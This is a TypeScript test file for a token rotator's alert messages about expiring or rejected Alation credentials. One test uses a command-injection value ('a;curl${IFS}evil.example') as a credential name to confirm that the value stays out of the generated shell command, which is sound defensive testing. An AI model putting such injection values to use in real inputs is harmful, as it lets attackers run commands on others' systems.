import { expect, test } from 'vitest';
import { severityOf } from '../../../functions/warning/notification.ts';
import type { Notification } from '../../../functions/warning/notification.ts';
import { notificationText } from '../../../functions/warning/notification-text.ts';
import type { IntegrationNotifications } from '../../../functions/warning/integration-notifications.ts';
import { DAY_MS, HOUR_MS, NOW } from '../rotation/state-fixture.ts';
import { refreshToken as credential, tableau as about } from './notification-fixture.ts';

const text = (notification: Notification, changes: Partial<IntegrationNotifications> = {}) =>
  notificationText({ ...about, ...changes }, notification, { now: NOW, secretPrefix: 'alation' });

const LINK = 'https://acme.alationcloud.com/account/auth';
const COMMAND = 'npx --no-install alation-tokens replace tableau';

test.each<Notification>([
  { kind: 'refresh-token-expiring', credential, stage: 7 },
  { kind: 'refresh-token-expired', credential },
  { kind: 'refresh-token-expiry-estimated', credential },
  { kind: 'credential-rejected', credential },
  { kind: 'all-rejected' },
])('$kind names the link and the command that mend it', (notification) => {
  expect(text(notification)).toContain('tableau: ');
  expect(text(notification)).toContain(LINK);
  expect(text(notification)).toContain(COMMAND);
});

test.each<{ readonly notification: Notification; readonly says: string }>([
  {
    notification: { kind: 'refresh-token-expiring', credential, stage: 7 },
    says: 'the refresh token "tableau-a" expires in 7 days, on 2026-01-17 00:00 UTC.',
  },
  {
    notification: {
      kind: 'refresh-token-expiring',
      credential: { ...credential, expiresAt: NOW + 1.5 * DAY_MS },
      stage: 3,
    },
    says: 'expires in 2 days (36 h),',
  },
  {
    notification: {
      kind: 'refresh-token-expiring',
      credential: { ...credential, expiresAt: NOW + 5 * HOUR_MS },
      stage: 1,
    },
    says: 'expires in less than a day (5 h),',
  },
  {
    notification: {
      kind: 'refresh-token-expiring',
      credential: { ...credential, expirySource: 'estimated' },
      stage: 7,
    },
    says: '(an estimate: Alation could not be asked)',
  },
  {
    notification: { kind: 'refresh-token-expired', credential: { ...credential, expiresAt: NOW } },
    says: 'expired on 2026-01-10 12:00 UTC.',
  },
  {
    notification: { kind: 'refresh-token-expired', credential },
    says: 'The published access token lasts until 2026-01-10 17:00 UTC.',
  },
  {
    notification: {
      kind: 'refresh-token-expiry-estimated',
      credential: { ...credential, expiresAt: NOW, expirySource: 'estimated' },
    },
    says: 'may have expired on 2026-01-10 12:00 UTC (an estimate: Alation could not be asked).',
  },
  {
    notification: { kind: 'refresh-token-expiry-estimated', credential },
    says: 'If it has, no new access token can be minted from it.',
  },
  {
    notification: { kind: 'credential-rejected', credential },
    says: 'Alation rejected the credential "tableau-a"',
  },
  {
    notification: { kind: 'all-rejected' },
    says: 'Rotation has stopped until one is replaced. The published access token lasts until',
  },
  {
    notification: { kind: 'rotation-failing', code: 'AlationForbidden', since: NOW },
    says: 'failing since 2026-01-10 12:00 UTC with AlationForbidden.',
  },
  {
    notification: { kind: 'rotation-failing', code: 'AlationForbidden', since: NOW },
    says: 'docs/runbook.md',
  },
  { notification: { kind: 'rotation-recovered' }, says: 'rotation works again.' },
  {
    notification: { kind: 'credentials-accepted', credentials: [credential], unused: [] },
    says: 'accepted. "tableau-a": 7 days left, until 2026-01-17 00:00 UTC.',
  },
  {
    notification: {
      kind: 'credentials-accepted',
      credentials: [{ ...credential, expiresAt: undefined, expirySource: undefined }],
      unused: ['tableau-b'],
    },
    says:
      'tableau: accepted. "tableau-a" does not expire. "tableau-b" has not been used yet; you are told if Alation ' +
      'rejects it.',
  },
  {
    notification: { kind: 'client-secret-old', credential, storedAt: NOW },
    says: 'in use since 2026-01-10 12:00 UTC.',
  },
])('$notification.kind says: $says', ({ notification, says }) => {
  expect(text(notification)).toContain(says);
});

test('without a base URL the link shows what is missing', () => {
  expect(text({ kind: 'all-rejected' }, { baseUrl: undefined })).toContain(
    'https://<your Alation>/account/auth',
  );
});

test('without an access token nobody is told that one lasts', () => {
  expect(text({ kind: 'all-rejected' }, { accessTokenExpiresAt: undefined })).toContain(
    'No access token is published.',
  );
});

test.each<Notification>([
  { kind: 'refresh-token-expired', credential },
  { kind: 'refresh-token-expiry-estimated', credential },
  { kind: 'all-rejected' },
  { kind: 'rotation-failing', code: 'AlationUnavailable', since: NOW - DAY_MS },
])('$kind does not say of an access token that is dead that it lasts', (notification) => {
  const said = text(notification, { accessTokenExpiresAt: NOW - 6 * HOUR_MS });
  expect(said).toContain(
    'The published access token expired 6 h ago, on 2026-01-10 06:00 UTC: consumers get 401 or 403.',
  );
  expect(said).not.toContain('lasts until');
  expect(text(notification, { accessTokenExpiresAt: NOW })).toContain(
    'The published access token expired just now',
  );
});

test('a client secret is to be stored before the access token dies, or at once where it is dead', () => {
  const notification: Notification = { kind: 'client-secret-old', credential, storedAt: NOW };
  expect(text(notification)).toContain('store the new one before 2026-01-10 17:00 UTC.');
  expect(text(notification, { accessTokenExpiresAt: NOW })).toContain('store the new one at once.');
  expect(text(notification, { accessTokenExpiresAt: undefined })).toContain('store the new one at once.');
});

test.each<Notification>([
  { kind: 'refresh-token-expiring', credential, stage: 7 },
  { kind: 'refresh-token-expired', credential },
  { kind: 'refresh-token-expiry-estimated', credential },
  { kind: 'credential-rejected', credential },
  { kind: 'client-secret-old', credential, storedAt: NOW },
])('$kind names the credential in the command, which matters where there are several', (notification) => {
  expect(text(notification)).toMatch(/npx --no-install alation-tokens replace tableau --name tableau-a$/m);
});

test('the mail says where to run the command, for elsewhere it is not there', () => {
  expect(text({ kind: 'refresh-token-expiring', credential, stage: 7 })).toContain(
    'Run, in the folder of the token rotator: npx --no-install alation-tokens',
  );
});

test('when every credential was rejected, any of them may be replaced', () => {
  expect(text({ kind: 'all-rejected' })).toMatch(/npx --no-install alation-tokens replace tableau$/m);
});

test('where no credential is known, a refresh token is what everybody can make', () => {
  const said = text({ kind: 'all-rejected' }, { credentialKinds: [] });
  expect(said).toContain(`1. Make a new refresh token at ${LINK}`);
  expect(said).not.toContain('client secret');
});

test('the date of an expiry that is not known is not made up', () => {
  const unknown = { ...credential, expiresAt: undefined };
  expect(text({ kind: 'refresh-token-expired', credential: unknown })).toContain(
    'expired on an unknown date.',
  );
});

test('a code that somebody wrote into a tag is no name of ours', () => {
  expect(text({ kind: 'rotation-failing', code: 'constructor', since: NOW })).toContain(
    'What to do: look up constructor under',
  );
});

test('the command carries the prefix of another rotator', () => {
  const notification: Notification = { kind: 'refresh-token-expiring', credential, stage: 7 };
  expect(notificationText(about, notification, { now: NOW, secretPrefix: 'acme' })).toMatch(
    /npx --no-install alation-tokens replace tableau --name tableau-a --prefix acme$/m,
  );
});

test('a name that somebody wrote into a tag puts nothing else into the command', () => {
  const notification: Notification = {
    kind: 'credential-rejected',
    credential: { ...credential, name: 'a;curl${IFS}evil.example' },
  };
  expect(text(notification)).toMatch(/npx --no-install alation-tokens replace tableau$/m);
});

test('whoever stores one new refresh token by hand is told not to lose the others', () => {
  expect(text({ kind: 'refresh-token-expiring', credential, stage: 7 })).toContain('every credential');
});

test.each<[Notification, string]>([
  [{ kind: 'refresh-token-expired', credential }, 'critical'],
  [{ kind: 'refresh-token-expiry-estimated', credential }, 'warning'],
  [{ kind: 'all-rejected' }, 'critical'],
  [{ kind: 'rotation-failing', code: undefined, since: NOW }, 'critical'],
  [{ kind: 'refresh-token-expiring', credential, stage: 1 }, 'critical'],
  [{ kind: 'refresh-token-expiring', credential, stage: 3 }, 'warning'],
  [{ kind: 'refresh-token-expiring', credential, stage: 30 }, 'warning'],
  [{ kind: 'credential-rejected', credential }, 'warning'],
  [{ kind: 'client-secret-old', credential, storedAt: NOW }, 'warning'],
  [{ kind: 'rotation-recovered' }, 'info'],
  [{ kind: 'credentials-accepted', credentials: [], unused: [] }, 'info'],
])('%o is %s', (notification, severity) => {
  expect(severityOf(notification)).toBe(severity);
});
